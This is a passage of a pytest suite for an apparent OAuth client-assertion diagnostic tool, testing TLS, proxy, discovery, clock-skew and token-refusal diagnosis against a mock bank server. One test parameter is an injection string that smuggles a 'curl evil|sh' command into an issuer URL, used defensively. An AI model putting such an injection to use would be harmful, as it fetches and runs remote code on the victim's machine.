        "network.tls.expired": authority.context("127.0.0.1", not_before=past - timedelta(days=9), not_after=past),
        "network.tls.host": authority.context("bank.example"),
    }[rule]
    with Bank(context) as bank:
        seen = look(rsa_key, bank.url, ca_bundle=authority.file)
    assert seen.rules("fail") == [rule]
    assert "issued by " in seen.one(rule).received
    assert seen.one(rule).expected
    assert seen.one(rule).fix
    assert seen.causes == [rule]
    assert (seen.code, bank.asked, seen.titles[-1]) == (5, [], "Way to the server")


def test_a_proxy_that_wants_a_password_is_a_finding_without_it(
    rsa_key: keys.PrivateKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Proxy(1, "407 Proxy Authentication Required") as proxy:
        monkeypatch.setenv("HTTPS_PROXY", f"http://user:pa55word@127.0.0.1:{proxy.port}")
        seen = look(rsa_key, "https://bank.example/token")
    finding = seen.one("network.proxy", "fail")
    assert "407 Proxy Authentication Required" in finding.received
    assert seen.one("network.proxy", "pass").received.startswith(f"http://127.0.0.1:{proxy.port} · from HTTPS_PROXY")
    assert "pa55word" not in repr(seen)
    assert (seen.code, seen.examination.requests) == (5, ())


@pytest.mark.parametrize(
    ("answer", "rule", "code"),
    [
        (PORTAL, "network.answer", 5),
        (REDIRECT, "network.answer", 5),
        (DOWN, "network.unavailable", 5),
        (BLOCKED, "network.answer", 4),
    ],
    ids=["captive portal", "redirect", "503", "firewall"],
)
def test_who_answers_in_the_servers_place_is_found_out_by_one_request(
    bank: Bank, rsa_key: keys.PrivateKey, answer: Says, rule: str, code: int
) -> None:
    bank.answers[WELL_KNOWN] = bank.answers["/jwks"] = answer
    bank.token = lambda _: answer
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert seen.rules("fail") == [rule]
    assert seen.one(rule).fix
    assert (seen.code, len(bank.forms), seen.pauses) == (code, 1, [])


@pytest.mark.parametrize("answer", [PORTAL, REDIRECT, DOWN])
def test_with_an_issuer_who_answers_in_its_place_is_sent_no_assertion(
    bank: Bank, rsa_key: keys.PrivateKey, answer: Says
) -> None:
    bank.answers[WELL_KNOWN] = answer
    seen = look(rsa_key, None, issuer=bank.origin)
    assert seen.rules("fail") == ["network.unavailable" if answer is DOWN else "network.answer"]
    assert (seen.code, bank.forms) == (5, [])


def test_a_portals_own_words_are_among_the_evidence(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.answers[WELL_KNOWN] = PORTAL
    bank.token = lambda _: PORTAL
    assert "Sign in — to the guest network" in look(rsa_key, bank.url).one("network.answer").received


def test_a_root_that_is_not_available_does_not_hide_the_document_under_the_path(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    bank.answers[WELL_KNOWN] = DOWN
    bank.answers[f"/a/oidc{WELL_KNOWN}"] = says_json(**bank.metadata)
    seen = look(rsa_key, f"{bank.origin}/a/oidc/token")
    assert "network.unavailable" not in seen.rules("fail")
    assert "discovery.token_endpoint" in seen.rules("pass", "warn")


@pytest.mark.parametrize("status", [404, 403, 405, 410])
def test_an_endpoint_without_a_discovery_document_is_asked_all_the_same(
    bank: Bank, rsa_key: keys.PrivateKey, status: int
) -> None:
    bank.answers[WELL_KNOWN] = Says(status, b"", {})
    seen = look(rsa_key, bank.url)
    finding = seen.one("discovery.missing")
    assert finding.verdict is Verdict.UNKNOWN
    assert bank.origin in finding.reason
    assert (seen.code, seen.accepted) == (0, [True])


def test_discovery_is_looked_for_at_the_root_and_under_the_path(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.answers[WELL_KNOWN] = NOT_THERE
    bank.answers[f"/a/oidc{WELL_KNOWN}"] = says_json(
        **bank.metadata | {"issuer": f"{bank.origin}/a/oidc", "token_endpoint": f"{bank.origin}/a/oidc/token"}
    )
    seen = look(rsa_key, f"{bank.origin}/a/oidc/token")
    assert bank.asked[:2] == [f"GET {WELL_KNOWN}", f"GET /a/oidc{WELL_KNOWN}"]
    assert seen.one("discovery.token_endpoint").verdict is Verdict.PASS


def test_a_server_that_names_another_endpoint_is_a_warning(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.metadata["token_endpoint"] = "https://elsewhere.example/token"
    seen = look(rsa_key, bank.url)
    finding = seen.one("discovery.token_endpoint")
    assert finding.verdict is Verdict.WARN
    assert bank.url in finding.received
    assert "https://elsewhere.example/token" in finding.expected
    assert seen.accepted == [True]


@pytest.mark.parametrize(
    ("member", "value", "rule"),
    [
        ("token_endpoint_auth_methods_supported", ["client_secret_basic"], "discovery.auth_method"),
        ("token_endpoint_auth_signing_alg_values_supported", ["RS256"], "discovery.alg"),
        ("grant_types_supported", ["authorization_code"], "discovery.grant_type"),
        ("scopes_supported", ["profile"], "discovery.scope"),
    ],
)
def test_what_the_server_does_not_say_that_it_takes_is_a_warning(
    bank: Bank, rsa_key: keys.PrivateKey, member: str, value: list[str], rule: str
) -> None:
    bank.metadata[member] = value
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url)
    assert seen.rules("warn") == [rule]
    assert value[0] in seen.one(rule, "warn").expected
    assert (seen.code, len(bank.forms)) == (4, 1)  # what it takes is for the server to say
    del bank.metadata[member]
    seen = look(rsa_key, bank.url)
    assert (seen.one(rule).verdict, member in seen.one(rule).reason) == (Verdict.UNKNOWN, True)


@pytest.mark.parametrize(
    ("member", "rule"),
    [
        ("token_endpoint_auth_methods_supported", "discovery.auth_method"),
        ("token_endpoint_auth_signing_alg_values_supported", "discovery.alg"),
        ("grant_types_supported", "discovery.grant_type"),
        ("scopes_supported", "discovery.scope"),
    ],
)
@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        (None, ("discovery.auth_method", "discovery.alg", "discovery.grant_type", "discovery.scope")),
        ("invalid_scope", ("discovery.auth_method", "discovery.alg")),
        ("unsupported_grant_type", ("discovery.auth_method", "discovery.alg")),
        ("invalid_client", ()),
    ],
)
def test_a_warning_that_the_request_disproves_is_not_given(
    bank: Bank, rsa_key: keys.PrivateKey, member: str, rule: str, answer: str | None, shown: tuple[str, ...]
) -> None:
    bank.metadata[member] = ["something_else"]
    if answer is not None:
        bank.token = lambda _: refused(answer, 400)
    seen = look(rsa_key, bank.url)
    assert seen.one(rule).verdict is (Verdict.PASS if rule in shown else Verdict.WARN)
    if answer is None:
        assert seen.rules("warn", "fail") == []
        assert [note for part in conclusion(seen.examination) for note in part.notes] == ["Nothing wrong was found."]


@pytest.mark.parametrize(
    ("error", "rule"),
    [("scope_invalid", "request.scope.not_allowed"), ("UNKNOWN_CLIENT", "client.unknown")],
)
def test_an_error_code_of_the_servers_own_names_the_cause(
    bank: Bank, rsa_key: keys.PrivateKey, error: str, rule: str
) -> None:
    bank.token = lambda _: says_json(400, error=error)
    assert look(rsa_key, bank.url).causes[0] == rule


def test_a_scope_that_is_neither_listed_nor_granted_stays_a_warning(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.metadata["scopes_supported"] = ["profile"]
    bank.token = lambda _: granted(scope="profile")
    seen = look(rsa_key, bank.url)
    assert (seen.code, seen.rules("warn")) == (0, ["discovery.scope"])


def test_such_a_warning_is_given_where_nobody_is_asked(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.metadata["grant_types_supported"] = ["authorization_code"]
    seen = look(rsa_key, bank.url, claims={"nbf": 4_000_000_000})
    assert (seen.one("discovery.grant_type").verdict, bank.forms) == (Verdict.WARN, [])


@pytest.mark.parametrize("jwks", [NOT_THERE, says_json(keys=[]), Says(200, b"{"), PORTAL])
def test_a_jwks_that_is_broken_is_a_warning_for_it_is_not_needed(
    bank: Bank, rsa_key: keys.PrivateKey, jwks: Says
) -> None:
    bank.answers["/jwks"] = jwks
    seen = look(rsa_key, bank.url)
    assert seen.rules("fail", "warn") == ["discovery.jwks"]
    assert (seen.code, seen.accepted) == (0, [True])


def test_with_an_issuer_the_assertion_is_judged_after_discovery(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    seen = look(rsa_key, None, issuer=bank.origin)
    assert seen.rules("fail", "warn") == []
    assert seen.titles.index("Server") < seen.titles.index("Client assertion") < seen.titles.index("Token request")
    assert seen.one("assertion.aud.mismatch").received == f'"{bank.url}"'
    assert seen.accepted == [True]


def test_the_way_to_an_endpoint_on_another_host_than_the_issuer_is_looked_at_too(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    with Bank() as other:
        bank.metadata["token_endpoint"] = other.url
        seen = look(rsa_key, None, issuer=bank.origin)
        assert len(other.forms) == 1
    ways = [finding.received for finding in seen.examination.findings if finding.rule == "network.connection"]
    assert [way.partition(" ")[0] for way in ways] == [f"127.0.0.1:{bank.port}", f"127.0.0.1:{other.port}"]
    assert seen.code == 0


def test_an_aud_that_may_be_the_issuer_is_judged_again_when_that_is_known(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    seen = look(rsa_key, bank.url, aud=bank.origin)
    assert seen.one("assertion.aud.mismatch").verdict is Verdict.PASS  # the server took it
    assert (seen.code, seen.accepted) == (0, [True])
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, aud=bank.origin)
    assert "it is the issuer: some servers take that" in seen.one("assertion.aud.mismatch").reason
    assert "assertion.aud.mismatch" in seen.causes
    assert "assertion.aud.mismatch" not in seen.ruled_out


def test_an_endpoint_that_no_document_names_may_have_another_name(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    assert "assertion.aud.mismatch" in look(rsa_key, bank.url).ruled_out
    bank.answers[WELL_KNOWN] = NOT_THERE
    seen = look(rsa_key, bank.url)
    assert seen.causes[-1] == "assertion.aud.mismatch"
    assert "assertion.aud.mismatch" not in seen.ruled_out


def test_another_issuer_in_the_document_ends_it(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.metadata["issuer"] = "https://elsewhere.example"
    seen = look(rsa_key, None, issuer=bank.origin)
    assert seen.rules("fail") == ["discovery.issuer"]
    assert "https://elsewhere.example" in seen.one("discovery.issuer").received
    assert (seen.code, bank.forms) == (2, [])


def test_an_issuer_without_a_discovery_document_fails(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.answers[WELL_KNOWN] = NOT_THERE
    seen = look(rsa_key, None, issuer=bank.origin)
    assert seen.rules("fail") == ["discovery.missing"]
    assert (seen.code, bank.forms) == (5, [])


def test_offline_with_an_issuer_the_aud_cannot_be_told(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    seen = look(rsa_key, None, issuer=bank.origin, offline=True)
    assert (seen.code, bank.asked) == (0, [])
    assert seen.one("assertion.aud.mismatch").verdict is Verdict.UNKNOWN


# ── The clock ───────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("sign", [1, -1], ids=["server ahead", "server behind"])
@pytest.mark.parametrize(
    ("seconds", "verdict"), [(0, "pass"), (9, "pass"), (10, "warn"), (15, "warn"), (16, "fail"), (600, "fail")]
)
def test_the_clock_is_held_against_the_servers_date(
    bank: Bank, rsa_key: keys.PrivateKey, seconds: int, sign: int, verdict: str
) -> None:
    bank.clock = lambda: NOW + sign * seconds
    seen = look(rsa_key, bank.url, clock=lambda: NOW + 0.5)
    finding = seen.one("clock.skew")
    assert finding.verdict == verdict
    assert finding.received.startswith("10 min " if seconds == 600 else f"{seconds} s ")
    if verdict != "pass":
        assert ("behind" if sign > 0 else "ahead of") in finding.received
        assert finding.fix
    assert seen.code == (2 if verdict == "fail" else 0)


@pytest.mark.parametrize("seconds", [16, -16])
def test_past_the_tolerance_the_server_is_still_asked_for_it_may_grant(
    rsa_key: keys.PrivateKey, seconds: int
) -> None:
    seen = look_at_sandbox(rsa_key, server_clock=lambda: NOW + seconds, clock=lambda: NOW + 0.5)
    assert seen.one("clock.skew").verdict is Verdict.FAIL
    assert seen.accepted == [True]
    assert seen.code == 2


@pytest.mark.parametrize(("seconds", "rule"), [(600, "assertion.exp.past"), (-600, "assertion.exp.too_far")])
def test_by_a_clock_that_is_far_off_the_server_is_not_asked(
    rsa_key: keys.PrivateKey, seconds: int, rule: str
) -> None:
    seen = look_at_sandbox(rsa_key, server_clock=lambda: NOW + seconds, clock=lambda: NOW + 0.5)
    reason = seen.one("token.request").reason
    assert f"by the server's clock {rule}" in reason
    assert (seen.examination.requests, seen.log, seen.code) == ((), [], 2)
    assert seen.causes == ["clock.skew"]


def test_without_a_date_nothing_is_said_of_the_clock(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.clock = None
    seen = look(rsa_key, bank.url)
    assert seen.rules("fail", "warn") == []
    assert "clock.skew" not in seen.rules("pass", "fail", "warn")
    assert seen.accepted == [True]


def test_a_date_on_the_token_answer_alone_tells_the_clock(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.clock = None

    def on_request(path: str) -> None:
        bank.clock = (lambda: NOW + 600) if path == "/token" else None

    bank.on_request = on_request
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, clock=lambda: NOW)
    assert seen.one("clock.skew").verdict is Verdict.FAIL
    assert len(bank.forms) == 1
    assert seen.causes[0] == "clock.skew"


# ── The token request ───────────────────────────────────────────────────────────────────────────────────────────


def test_one_request_is_made_and_the_token_is_kept_nowhere(
    cli: Cli, bank: Bank, rsa_pem: Path, folder: Path, tmp_path: Path
) -> None:
    bundle = tmp_path / "bundle.md"
    text = cli(*ask(bank, rsa_pem), "--bundle", bundle)
    as_json = cli(*ask(bank, rsa_pem), "-o", "json")
    assert (text.code, as_json.code) == (0, 0)
    assert len(bank.forms) == 2
    for everything in (text.stdout, text.stderr, as_json.stdout, as_json.stderr, bundle.read_text()):
        assert TOKEN not in everything
        assert not any(form["client_assertion"].rpartition(".")[2] in everything for form in bank.forms)
    assert not folder.exists() or list(folder.iterdir()) == []
    [request] = said(as_json)["requests"]
    assert request["accepted"] is True
    assert request["status"] == 200


def test_a_token_in_the_cache_is_not_taken_for_an_answer(cli: Cli, bank: Bank, rsa_pem: Path, folder: Path) -> None:
    assert cli("token", *ask(bank, rsa_pem)[1:]).code == 0
    bank.token = lambda _: refused()
    assert cli(*ask(bank, rsa_pem), "-o", "json").code == 4
    assert len(bank.forms) == 2


def test_a_refusal_that_hides_its_reason_names_all_it_may_be(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url)
    assert seen.causes == [
        "registration.key.mismatch",
        "client.unknown",
        "registration.auth_method",
        "registration.alg",
        "registration.application_type",
    ]
    assert {"client_id.malformed", "assertion.aud.mismatch", "assertion.exp.past", "clock.skew"} <= set(
        seen.ruled_out
    )
    assert "registration.key.mismatch" not in seen.ruled_out
    assert (seen.code, len(bank.forms), seen.accepted) == (4, 1, [False])
    diagnosis = seen.examination.diagnosis
    assert diagnosis is not None
    assert diagnosis.questions[: len(diagnosis.causes)] == tuple(cause.question for cause in diagnosis.causes)
    assert "Which scopes" in diagnosis.questions[-2]
    assert "Associated User" in diagnosis.questions[-1]
    questions = " ".join(diagnosis.questions)
    assert "Service account" in questions
    assert "Signed JWT" in questions
    assert all(cause.question for cause in diagnosis.causes)
    assert CLIENT_ID in questions
    assert rsa_key.public.fingerprint() in questions
    assert "PS256" in questions
    assert all(one.how for one in diagnosis.ruled_out)


def test_a_registered_key_in_a_file_is_the_users_word_and_asked_about_last(
    rsa_key: keys.PrivateKey, other_key: keys.PrivateKey, registered: Path
) -> None:
    # The bank has another key than the file says.
    seen = look_at_sandbox(rsa_key, client=Client(CLIENT_ID, public_of(other_key)), registered=registered)
    assert seen.causes == [
        *("client.unknown", "registration.auth_method", "registration.alg", "registration.application_type"),
        "registration.key.mismatch",
    ]
    assert not {"registration.key.mismatch", "assertion.signature.invalid"} & set(seen.ruled_out)
    assert any("refused by assertion.signature.invalid" in line for line in seen.log)
    assert seen.code == 4


def test_a_registered_key_that_was_fetched_from_where_the_bank_fetches_it_is_ruled_out(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    bank.answers["/client/jwks"] = says_json(keys=[jwk_of(rsa_key)])
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, registered=f"{bank.origin}/client/jwks")
    assert "registration.key.mismatch" not in seen.causes
    assert {"registration.key.mismatch", "assertion.signature.invalid"} <= set(seen.ruled_out)


def test_the_refusal_is_a_finding_with_the_servers_words(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    finding = look(rsa_key, bank.url).one("invalid_client")
    assert finding.verdict is Verdict.FAIL
    assert "client authentication failed (401, x-request-id id-3)" in finding.received


def shown_of(seen: Looked) -> dict[str, tuple[str, ...]]:
    """What people are told at the end, by its titles."""
    return {part.title: part.notes for part in conclusion(seen.examination)}


MAY_COME_FROM = "What it may come from: the likeliest first; these look the same from outside"


@pytest.mark.posix("Windows has no modes")
def test_what_no_server_minds_is_not_among_the_causes(bank: Bank, rsa_key: keys.PrivateKey, rsa_pem: Path) -> None:
    rsa_pem.chmod(0o640)
    bank.metadata["scopes_supported"] = ["profile"]
    bank.answers["/jwks"] = NOT_THERE
    bank.token = lambda _: refused()
    seen = look(rsa_pem, bank.url)
    assert seen.rules("warn") == ["key.permissions", "discovery.jwks", "discovery.scope"]
    assert seen.causes == [
        *("registration.key.mismatch", "client.unknown", "registration.auth_method", "registration.alg"),
        "registration.application_type",
    ]


def test_a_warning_is_a_likely_cause_and_not_a_certain_one(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, client_id=CLIENT_ID.upper())
    assert seen.causes[:2] == ["client_id.case", "registration.key.mismatch"]
    shown = shown_of(seen)
    assert "What to fix" not in shown
    assert shown[MAY_COME_FROM][0].startswith("1. client_id.case: ")
    # Of each cause, and of the scopes and the Associated User, which would stand in the way next.
    assert len(shown["What to ask the bank's administrator"]) == 5 + 2


def test_a_warning_of_what_the_server_takes_comes_after_what_the_bank_has(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, claims={"tenant": "a"})
    assert seen.causes[0] == "registration.key.mismatch"
    assert seen.causes[-1] == "assertion.claims.unexpected"


def test_what_could_not_be_looked_at_is_no_certain_cause(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, kid="thumbprint")
    assert seen.causes[0].startswith("assertion.kid.")
    assert "What to fix" not in shown_of(seen)
    assert MAY_COME_FROM in shown_of(seen)


def test_clocks_that_differ_by_less_than_the_assertion_lives_are_no_cause(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    bank.clock = lambda: NOW + 20
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, clock=lambda: NOW)
    assert seen.one("clock.skew").verdict is Verdict.FAIL
    assert "clock.skew" not in seen.causes
    assert "What to fix" not in shown_of(seen)


def test_what_was_varied_to_no_avail_is_told_with_the_cause(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert seen.examination.diagnosis is not None
    [alg] = [cause for cause in seen.examination.diagnosis.causes if cause.rule == "registration.alg"]
    assert alg.why == "refused with RS256 as well: that alone it is not"


def test_how_something_is_ruled_out_is_never_the_fault_itself(
    rsa_key: keys.PrivateKey, other_key: keys.PrivateKey, registered: Path
) -> None:
    seen = look_at_sandbox(rsa_key, client=Client(CLIENT_ID, public_of(other_key)), registered=registered)
    assert seen.examination.diagnosis is not None
    for one in seen.examination.diagnosis.ruled_out:
        assert one.how
        assert one.how != EXPLANATIONS[one.rule].title


@pytest.mark.parametrize(
    ("error", "status", "cause"),
    [
        ("invalid_scope", 400, "request.scope.not_allowed"),
        ("unauthorized_client", 400, "registration.application_type"),
        ("invalid_grant", 400, "registration.application_type"),
    ],
)
def test_a_refusal_that_says_its_reason_has_one_cause_and_one_question(
    bank: Bank, rsa_key: keys.PrivateKey, error: str, status: int, cause: str
) -> None:
    bank.token = lambda _: refused(error, status)
    seen = look(rsa_key, bank.url, scope=("openid", "payments"))
    assert seen.causes == [cause]
    assert seen.rules("fail") == [error]
    assert seen.one(error).fix
    assert seen.code == 4
    notes = [note for part in conclusion(seen.examination) for note in part.notes]
    [question] = [note for note in notes if note.endswith("?") or "Users & Groups" in note]
    assert CLIENT_ID in question
    if error == "invalid_scope":
        assert "openid payments" in question


def test_an_error_that_nobody_knows_is_told_as_it_is(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: says_json(400, error="teapot", error_description="short and stout")
    seen = look(rsa_key, bank.url)
    assert seen.rules("fail") == ["token.request"]  # whose id it is, is not for the server to choose
    assert "teapot — short and stout" in seen.one("token.request").received
    assert (seen.code, seen.causes[0], len(seen.causes)) == (4, "registration.key.mismatch", 5)


@pytest.mark.parametrize(
    ("answer", "rule", "words"),
    [
        (BLOCKED, "network.answer", "Forbidden"),
        (says_json(429), "network.unavailable", "429"),
        (DOWN, "network.unavailable", "503"),
        (PORTAL, "network.answer", "Sign in"),
    ],
    ids=["a firewall's 403", "429", "503", "a portal"],
)
def test_an_answer_of_no_token_endpoint_is_a_finding_and_not_asked_for_again(
    bank: Bank, rsa_key: keys.PrivateKey, answer: Says, rule: str, words: str
) -> None:
    bank.token = lambda _: answer
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert seen.rules("fail") in ([rule], ["token.request"])
    assert words in seen.one(seen.rules("fail")[0], "fail").received
    assert seen.code == (4 if answer is BLOCKED else 5)  # as `token` ends with it
    assert (len(bank.forms), seen.pauses) == (1, [])


def test_a_server_that_never_answers_is_waited_for_as_long_as_is_allowed(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    over = threading.Event()
    bank.on_request = lambda path: over.wait(60) if path == "/token" else None
    try:
        seen = look(rsa_key, bank.url, timeout=1.0)
    finally:
        over.set()
    assert seen.rules("fail") == ["network.timeout"]
    assert (seen.code, seen.accepted) == (5, [False])


def test_an_answer_that_echoes_the_assertion_is_left_out(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda form: says_json(401, error="invalid_client", error_description=form["client_assertion"])
    seen = look(rsa_key, bank.url)
    [form] = bank.forms
    everything = repr((seen.parts, seen.examination, conclusion(seen.examination)))
    signature = form["client_assertion"].rpartition(".")[2]
    assert not any(signature[i : i + 16] in everything for i in range(len(signature) - 16))
    assert seen.code == 4


@pytest.mark.parametrize("echoed", ["scope", "token_type"])
def test_a_grant_that_echoes_the_token_or_the_assertion_shows_neither(
    bank: Bank, rsa_key: keys.PrivateKey, echoed: str
) -> None:
    for echo in (lambda _: TOKEN, lambda form: form["client_assertion"].rpartition(".")[2]):
        bank.token = lambda form, echo=echo: says_json(  # type: ignore[misc]
            **{"access_token": TOKEN, "token_type": "Bearer"} | {echoed: echo(form)}
        )
        seen = look(rsa_key, bank.url)
        signature = bank.forms[-1]["client_assertion"].rpartition(".")[2]
        everything = repr((seen.parts, seen.examination))
        assert TOKEN not in everything
        assert signature[:40] not in everything
        assert "(left out: the server echoes " in everything


# ── Further requests ────────────────────────────────────────────────────────────────────────────────────────────


def test_without_being_asked_to_it_varies_nothing(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url)
    assert (len(bank.forms), seen.pauses) == (1, [])


def test_whoever_is_asked_and_says_no_is_not_disobeyed(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    asked: list[int] = []

    def no(count: int) -> bool:
        asked.append(count)
        return False

    seen = look(rsa_key, bank.url, probe=no)
    assert asked == [MOST_REQUESTS - 1]
    assert (len(bank.forms), seen.pauses) == (1, [])


def test_what_is_granted_at_once_is_not_varied(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    seen = look(rsa_key, bank.url, probe=lambda _: pytest.fail("it was asked"))
    assert (len(bank.forms), seen.code) == (1, 0)


def test_another_alg_that_is_accepted_is_the_culprit(rsa_key: keys.PrivateKey) -> None:
    client = Client(CLIENT_ID, public_of(rsa_key), alg="RS256")
    seen = look_at_sandbox(rsa_key, client=client, probe=lambda _: True)
    assert seen.causes == ["registration.alg"]
    finding = seen.one("registration.alg")
    assert finding.verdict is Verdict.FAIL
    assert "--alg RS256" in finding.fix
    assert (seen.accepted, seen.pauses) == ([False, True], [PROBE_PAUSE])
    assert [request.varied for request in seen.examination.requests] == ["", "with RS256"]
    assert seen.code == 4


def test_a_kid_that_is_refused_is_the_culprit(rsa_key: keys.PrivateKey) -> None:
    seen = look_at_sandbox(rsa_key, kid="thumbprint", probe=lambda _: True)
    assert seen.causes == ["assertion.kid.unexpected"]
    assert "--kid" in seen.one("assertion.kid.unexpected", "fail").fix
    assert (seen.accepted, seen.pauses) == ([False, True], [PROBE_PAUSE])


def header_of(form: Mapping[str, str]) -> dict[str, Any]:
    return part_of(form, 0)


def part_of(form: Mapping[str, str], number: int) -> dict[str, Any]:
    encoded = form["client_assertion"].split(".")[number]
    members: dict[str, Any] = json.loads(base64.urlsafe_b64decode(encoded + "=" * (-len(encoded) % 4)))
    return members


def test_a_kid_that_is_missed_is_the_culprit(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda form: granted() if "kid" in header_of(form) else refused()
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert seen.causes == ["assertion.kid.missing"]
    assert "--kid thumbprint" in seen.one("assertion.kid.missing", "fail").fix
    assert seen.accepted == [False, False, True]


def test_another_aud_that_is_accepted_is_the_culprit(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda form: granted() if part_of(form, 1)["aud"] == bank.origin else refused()
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert seen.causes == ["assertion.aud.mismatch"]
    assert f"--aud {bank.origin}" in seen.one("assertion.aud.mismatch", "fail").fix
    assert (seen.accepted, seen.pauses) == ([False, False, False, True], [PROBE_PAUSE] * 3)
    assert [part_of(form, 1)["aud"] for form in bank.forms] == [bank.url] * 3 + [bank.origin]


def test_an_aud_of_ones_own_is_varied_to_the_endpoint(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.answers[WELL_KNOWN] = NOT_THERE  # whether it is the issuer cannot be told then
    bank.token = lambda form: granted() if part_of(form, 1)["aud"] == bank.url else refused()
    seen = look(rsa_key, bank.url, aud=bank.origin, probe=lambda _: True)
    assert seen.causes == ["assertion.aud.mismatch"]
    assert "--aud" in seen.one("assertion.aud.mismatch", "fail").fix
    assert len(bank.forms) == MOST_REQUESTS


def test_where_nothing_is_accepted_the_group_remains(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert (len(bank.forms), seen.pauses) == (MOST_REQUESTS, [PROBE_PAUSE] * 3)
    assert {"registration.key.mismatch", "client.unknown", "registration.auth_method"} <= set(seen.causes)
    # Each varies one thing, and only that.
    headers = [header_of(form) for form in bank.forms]
    claims = [part_of(form, 1) for form in bank.forms]
    assert [header["alg"] for header in headers] == ["PS256", "RS256", "PS256", "PS256"]
    assert ["kid" in header for header in headers] == [False, False, True, False]
    assert [one["aud"] for one in claims] == [bank.url] * 3 + [bank.origin]
    assert len({one["jti"] for one in claims}) == MOST_REQUESTS
    assert seen.code == 4


def test_an_ec_key_has_no_other_alg_to_try(bank: Bank, ec_key: keys.PrivateKey) -> None:
    bank.token = lambda _: refused()
    look(ec_key, bank.url, probe=lambda _: True)
    assert [header_of(form)["alg"] for form in bank.forms] == ["ES256"] * 3


def test_a_refusal_of_another_kind_means_that_the_client_was_authenticated(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    bank.token = lambda form: refused("invalid_scope", 400) if header_of(form)["alg"] == "RS256" else refused()
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert seen.causes == ["registration.alg"]
    assert len(bank.forms) == 2


def test_whoever_refuses_in_another_way_ends_it_and_is_no_proof(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    # A gateway that has begun to block, say: nobody was authenticated.
    bank.token = lambda _: refused() if len(bank.forms) == 1 else refused("access_denied", 403)
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert len(bank.forms) == 2
    assert seen.causes[0] == "registration.key.mismatch"
    assert "culprit" not in {finding.looks_at for finding in seen.examination.findings}


@pytest.mark.parametrize(
    "issuer",
    ["https://login.jackhenry.com/a/oidc-provider/api/v0", "https://evil.example/; curl evil|sh #", "http://[x"],
)
def test_no_assertion_is_made_for_the_issuer_of_another_server(
    bank: Bank, rsa_key: keys.PrivateKey, issuer: str
) -> None:
    # Whoever is sent one could use it there.
    bank.metadata["issuer"] = issuer
    bank.token = lambda _: refused()
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert {part_of(form, 1)["aud"] for form in bank.forms} == {bank.url}
    assert "--aud" not in " ".join(finding.fix for finding in seen.examination.findings)


def test_a_network_failure_in_the_middle_ends_it_and_tells_what_is_known(
    bank: Bank, rsa_key: keys.PrivateKey
) -> None:
    bank.token = lambda _: refused() if len(bank.forms) == 1 else DOWN
    seen = look(rsa_key, bank.url, probe=lambda _: True)
    assert len(bank.forms) == 2
    assert seen.rules("fail") == ["invalid_client", "network.unavailable"]
    assert seen.code == 4
    assert seen.examination.diagnosis is not None


def test_no_assertion_is_made_for_another_servers_issuer(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    bank.metadata["issuer"] = "https://elsewhere.example"
    bank.token = lambda _: refused()
    look(rsa_key, bank.url, probe=lambda _: True)
    assert {part_of(form, 1)["aud"] for form in bank.forms} == {bank.url}
    assert len(bank.forms) == MOST_REQUESTS - 1


@pytest.fixture
def probe_pauses(pauses: list[float]) -> list[float]:
    return pauses


def test_in_a_pipe_the_option_is_enough(cli: Cli, bank: Bank, rsa_pem: Path, probe_pauses: list[float]) -> None:
